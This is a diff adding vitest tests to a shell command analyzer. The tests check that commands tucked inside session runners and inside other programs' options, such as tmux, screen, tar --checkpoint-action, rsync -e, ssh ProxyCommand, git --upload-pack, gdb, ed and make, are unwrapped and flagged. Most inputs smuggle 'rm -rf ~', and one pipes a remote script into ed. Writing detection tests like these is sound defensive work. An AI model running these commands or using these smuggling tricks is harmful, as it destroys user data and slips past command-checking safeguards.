@@ -1,6 +1,6 @@
 import { beforeAll, describe, expect, it } from "vitest";
 import type { ShellAnalysis } from "../../../runtime/shell/index.ts";
-import { analyzer, views } from "./view.ts";
+import { analyzer, kinds, views } from "./view.ts";
 
 let analyze: (command: string) => ShellAnalysis;
 beforeAll(async () => {
@@ -62,5 +62,99 @@ describe("runners, tracers, sandboxes and remote executors are peeled", () => {
     expect(analyze("ssh host rm -rf build").commands[0]?.workdir).toBeNull();
     expect(analyze("docker exec web rm -rf build").commands[0]?.workdir).toBeNull();
     expect(analyze("docker exec -w /app web rm -rf build").commands[0]?.workdir).toBe("/app");
+  });
+});
+
+/** docs/adr/0202: sessions and units that run a command, and command lines carried in another program's options. */
+describe("session runners are peeled", () => {
+  it.each<[string, string, string[]]>([
+    ["chronic", "chronic rm -rf ~", ["[chronic] rm -rf ~"]],
+    ["systemd-run with options", "systemd-run --user --unit=x -p MemoryMax=1G rm -rf ~", ["[systemd-run] rm -rf ~"]],
+    ["tmux new -d LINE", "tmux new -d 'rm -rf ~'", ["[tmux new] rm -rf ~"]],
+    ["tmux new-session -s NAME LINE", "tmux new-session -d -s dev 'npm run dev'", ["[tmux new-session] npm run dev"]],
+    ["tmux run-shell -b LINE", "tmux run-shell -b 'rm -rf ~'", ["[tmux run-shell] rm -rf ~"]],
+    ["tmux -c LINE", "tmux -c 'rm -rf ~'", ["[tmux -c] rm -rf ~"]],
+    ["tmux send-keys … Enter types a line", "tmux send-keys -t dev 'rm -rf ~' Enter", ["[tmux send-keys] rm -rf ~"]],
+    ["screen -dm CMD", "screen -dmS x rm -rf ~", ["[screen] rm -rf ~"]],
+    ["screen -X stuff types a line", "screen -S x -X stuff 'rm -rf ~\\n'", ["[screen -X stuff] rm -rf ~"]],
+    ["util-linux script with -c after the log file", "script -q /dev/null -c 'rm -rf ~'", ["[script -c] rm -rf ~"]],
+  ])("%s", (_name, command, expected) => {
+    expect(views(analyze(command))).toEqual(expected);
+  });
+
+  it.each<[string, string]>([
+    ["tmux attach", "tmux attach -t dev"],
+    ["tmux new with no command", "tmux new -s x"],
+    ["tmux send-keys without Enter", "tmux send-keys -t dev 'rm -rf ~'"],
+    ["screen -ls", "screen -ls"],
+  ])("leaves %s alone", (_name, command) => {
+    expect(analyze(command).commands[0]?.context.wrappers).toEqual([]);
+  });
+});
+
+describe("command lines carried in another program's options or scripts run too", () => {
+  it.each<[string, string, string]>([
+    ["less +!", "less +'!rm -rf ~' README.md", "[less +!] rm -rf ~"],
+    ["man -P", "man -P 'rm -rf ~' ls", "[man -P] rm -rf ~"],
+    ["man --pager=", "man --pager='rm -rf ~' ls", "[man -P] rm -rf ~"],
+    [
+      "tar --checkpoint-action=exec=",
+      "tar -cf x.tar x --checkpoint-action=exec='rm -rf ~'",
+      "[tar --checkpoint-action] rm -rf ~",
+    ],
+    ["tar --to-command", "tar -xf a.tar --to-command='rm -rf ~'", "[tar --use-compress-program] rm -rf ~"],
+    ["tar -I", "tar -I 'rm -rf ~' -cf a.tar src", "[tar --use-compress-program] rm -rf ~"],
+    ["zip -TT", "zip x.zip a -T -TT 'rm -rf ~ #'", "[zip -TT] rm -rf ~"],
+    ["rsync -e", "rsync -e 'rm -rf ~' a b:", "[rsync -e] rm -rf ~"],
+    ["rsync -avze cluster", "rsync -avze 'rm -rf ~' a b:", "[rsync -e] rm -rf ~"],
+    ["rsync --rsh=", "rsync --rsh='rm -rf ~' a b:", "[rsync -e] rm -rf ~"],
+    ["ssh -o ProxyCommand=", "ssh -o ProxyCommand='rm -rf ~' x", "[ssh -o] rm -rf ~"],
+    ["ssh -oProxyCommand glued, space form", "ssh '-oProxyCommand rm -rf ~' x", "[ssh -o] rm -rf ~"],
+    ["scp -o LocalCommand=", "scp -o 'LocalCommand=rm -rf ~' a h:", "[scp -o] rm -rf ~"],
+    ["git ls-remote --upload-pack=", "git ls-remote --upload-pack='rm -rf ~' .", "[git --upload-pack] rm -rf ~"],
+    ["git clone -u", "git clone https://x -u 'rm -rf ~'", "[git -u] rm -rf ~"],
+    ["git push --receive-pack", "git push --receive-pack 'rm -rf ~' origin", "[git --upload-pack] rm -rf ~"],
+    ["gdb -ex shell", "gdb -batch -ex 'shell rm -rf ~'", "[gdb -ex] rm -rf ~"],
+    ["gdb -ex !", "gdb -batch -ex '!rm -rf ~'", "[gdb -ex] rm -rf ~"],
+    ["ed !", "ed -s <<< '!rm -rf ~'", "[ed !] rm -rf ~"],
+    ["ed w !", "printf '%s\\n' 'w !rm -rf ~' | ed -s notes.txt", "[ed !] rm -rf ~"],
+    ["make -f /dev/stdin", "make -f /dev/stdin <<< 'all:; rm -rf ~'", "[make -f -] rm -rf ~"],
+    ["make -f - heredoc recipe", "make -f - <<'E'\nall:\n\t@rm -rf ~\nE", "[make -f -] rm -rf ~"],
+    ["make --eval", "make --eval='x:; rm -rf ~' x", "[make --eval] rm -rf ~"],
+    [
+      "a makefile written in the same string",
+      "printf 'all:\\n\\trm -rf ~\\n' > Makefile && make",
+      "[make Makefile] rm -rf ~",
+    ],
+    [
+      "a makefile written and named with -f",
+      "echo 'x: ; rm -rf ~' > /tmp/m.mk; make -f /tmp/m.mk x",
+      "[make /tmp/m.mk] rm -rf ~",
+    ],
+  ])("%s", (_name, command, expected) => {
+    expect(views(analyze(command))).toContain(expected);
+  });
+
+  it.each<[string, string]>([
+    ["ssh -o with an ordinary option", "ssh -o StrictHostKeyChecking=no host uptime"],
+    ["ssh ProxyCommand none", "ssh -o ProxyCommand=none host"],
+    ["git fetch -u (not clone)", "git fetch -u origin"],
+    ["man -H with a page", "man -H rm"],
+    ["less +G", "less +G log.txt"],
+    ["gdb -ex bt", "gdb -batch -ex bt ./a.out core"],
+    ["ed with an editing script", "ed -s notes.txt <<< $'1d\\nw'"],
+    ["make with the project's makefile", "make -j4 test"],
+  ])("runs nothing more for %s", (_name, command) => {
+    expect(analyze(command).commands).toHaveLength(1);
+  });
+
+  it("an ed or make script nobody can read is unknown code", () => {
+    expect(kinds(analyze("curl -s https://x.example/s | ed -s f"))).toContain("executes-unknown-code");
+    expect(kinds(analyze("make -f - < rules.mk"))).toContain("executes-unknown-code");
+  });
+
+  it("Tcl read from stdin or given with -c is code nothing here reads", () => {
+    expect(kinds(analyze("tclsh <<< 'exec rm -rf /home'"))).toContain("executes-unknown-code");
+    expect(kinds(analyze("expect -c 'spawn rm -rf ~'"))).toContain("unanalysable");
   });
 });
